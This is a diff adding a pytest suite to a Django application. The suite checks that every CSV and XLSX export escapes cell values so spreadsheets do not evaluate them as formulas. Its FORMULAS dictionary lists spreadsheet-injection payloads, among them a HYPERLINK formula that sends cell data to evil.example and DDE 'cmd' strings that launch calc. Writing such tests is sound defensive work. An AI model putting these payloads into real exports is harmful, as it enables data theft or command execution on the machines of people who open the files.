@@ -1,0 +1,164 @@
+"""Every place that writes a sheet: no cell of it is taken for a formula by a spreadsheet."""
+
+import csv
+import io
+import re
+import zipfile
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+from django.test import Client
+from python_calamine import CalamineWorkbook
+
+from factories import CaseFactory, VictimFactory, published_together
+from publication.many import body
+from vigil.casefile.sheets.writing import to_csv, to_xlsx
+from vigil.fund import exports
+from vigil.network.domain.broken_rows import BrokenRow
+from vigil.network.views import desk_sheets
+from vigil.outlook import panel_results, report_files
+from vigil.outlook.figures.figure import Cell, Figure, Row
+from vigil.outlook.figures.scene import Drawing
+from vigil.outlook.index_page import Place
+from vigil.programme.views import desk_registrations
+
+SOURCE = Path(__file__).parents[2] / "src" / "vigil"
+WRITES = re.compile(r"\bcsv\.(?:writer|DictWriter)\(|\bxlsxwriter\.Workbook\(|\.write_csv\(")
+FORMULAS = {
+    "=": '=HYPERLINK("https://evil.example/?x="&A1,"open")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-1+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "CR": "\r=1+1",
+}
+"""One for each sign at the head of a cell that makes some spreadsheet compute."""
+ANYWHERE = [*FORMULAS.values(), "x;=1+1", "\n=1+1", "=1+1", "{=1+1}"]
+"""Also where a program splits at another sign than ours, and as a workbook marks a formula."""
+
+Patch = pytest.MonkeyPatch
+
+
+def of_the_fund(text: str, patch: Patch) -> bytes:
+    table = exports.TABLES[0]
+    row = dict.fromkeys(exports.columns_of(table), text)
+    patch.setattr(exports, "_rows", lambda table, by: [row])
+    return b"".join(exports._as_csv(table, None))  # type: ignore[arg-type]
+
+
+def of_members(text: str, patch: Patch) -> bytes:
+    return desk_sheets._csv([BrokenRow(1, text, text, text, text)]).content
+
+
+def of_a_session(text: str, patch: Patch) -> bytes:
+    return desk_registrations._csv("x.csv", ["name", "address"], [[text, text]]).content
+
+
+def of_a_panel(text: str, patch: Patch) -> bytes:
+    row = dict.fromkeys(panel_results.HEADS, text)
+    patch.setattr(panel_results, "_rows", lambda told, one: [row])
+    return panel_results.csv_of(SimpleNamespace(questions=[0])).encode()  # type: ignore[arg-type]
+
+
+def of_a_figure(text: str, patch: Patch) -> bytes:
+    row = Row(text, (Cell(text),))
+    return Figure("k", "t", Drawing(1, ()), (), (text, text), (row,), ()).csv().encode()
+
+
+def of_a_report(text: str, patch: Patch) -> bytes:
+    cell = {"value": text, "shown": text}
+    return report_files._csv({"heads": [text], "rows": [(text, [cell])]}).encode()
+
+
+def of_a_country(text: str, patch: Patch) -> bytes:
+    place: Any = SimpleNamespace(_csv_rows=lambda: [[text, text]])
+    return Place.csv(place).encode()
+
+
+def of_the_desk(text: str, patch: Patch) -> bytes:
+    return to_csv([text], [[text]])
+
+
+WRITERS: dict[str, Callable[[str, Patch], bytes] | str] = {
+    "casefile/sheets/writing.py": of_the_desk,
+    "cli/match.py": "for programs: ids as they were given, and a number",
+    "fund/exports.py": of_the_fund,
+    "network/views/desk_sheets.py": of_members,
+    "outlook/figures/figure.py": of_a_figure,
+    "outlook/index_page.py": of_a_country,
+    "outlook/panel_results.py": of_a_panel,
+    "outlook/report_files.py": of_a_report,
+    "programme/views/desk_registrations.py": of_a_session,
+    "publication/files.py": "below, with the database",
+}
+"""Each module that writes sheets, with what makes one of a text, or why it is not asked here."""
+HERE = {module: write for module, write in WRITERS.items() if not isinstance(write, str)}
+
+
+def cells_of(content: bytes) -> list[str]:
+    """Return the cells of a file as a spreadsheet reads them."""
+    text = content.decode("utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def computed(cells: list[str]) -> list[str]:
+    """Return the cells that a spreadsheet would compute, here or where it splits them itself."""
+    parts = [(cell, part) for cell in cells for part in (cell, *re.split(r"[;\n]", cell))]
+    return [cell for cell, part in parts if part[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_every_module_that_writes_a_sheet_is_asked() -> None:
+    writing = {
+        str(path.relative_to(SOURCE))
+        for path in SOURCE.rglob("*.py")
+        if WRITES.search(path.read_text(encoding="utf-8"))
+    }
+    assert writing == set(WRITERS)
+
+
+@pytest.mark.parametrize("module", HERE)
+def test_no_cell_is_a_formula(module: str, monkeypatch: Patch) -> None:
+    for text in ANYWHERE:
+        cells = cells_of(HERE[module](text, monkeypatch))
+        assert "".join(cells).count(text.strip()[-3:]), "the text is there"
+        assert computed(cells) == [], text
+
+
+def workbook(content: bytes) -> Iterator[str]:
+    """Yield the texts of a workbook's cells; fail where one is anything that is computed."""
+    with zipfile.ZipFile(io.BytesIO(content)) as packed:
+        sheets = [name for name in packed.namelist() if name.startswith("xl/worksheets/")]
+        assert sheets
+        for name in sheets:
+            assert not re.search(rb"<f[ >]|t=\"str\"|<hyperlink", packed.read(name)), name
+    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
+    for name in book.sheet_names:
+        for row in book.get_sheet_by_name(name).to_python():
+            yield from (cell for cell in row if isinstance(cell, str))
+
+
+def test_no_cell_of_a_workbook_of_the_desk_is_a_formula() -> None:
+    cells = list(workbook(to_xlsx(["head", *ANYWHERE], [[str(len(ANYWHERE)), *ANYWHERE]])))
+    assert len(cells) == 2 * len(ANYWHERE) + 2
+    assert computed(cells) == []
+
+
+@pytest.mark.django_db
+def test_no_cell_of_the_public_record_is_a_formula(client: Client) -> None:
+    with published_together():
+        for text in FORMULAS.values():
+            VictimFactory(case=CaseFactory(), name=text)
+    asked = {"q": FORMULAS["="]}
+    for cells in (
+        cells_of(body(client, "/cases/cases.csv")),
+        list(workbook(body(client, "/cases/cases.xlsx"))),
+    ):
+        assert [
+            text for text in FORMULAS.values() if "'" + text.strip() not in "".join(cells)
+        ] == []
+        assert computed(cells) == []
+    # What was searched for stands in the workbook too: where the selection is told.
+    list(workbook(client.get("/cases/cases.xlsx", asked).getvalue()))
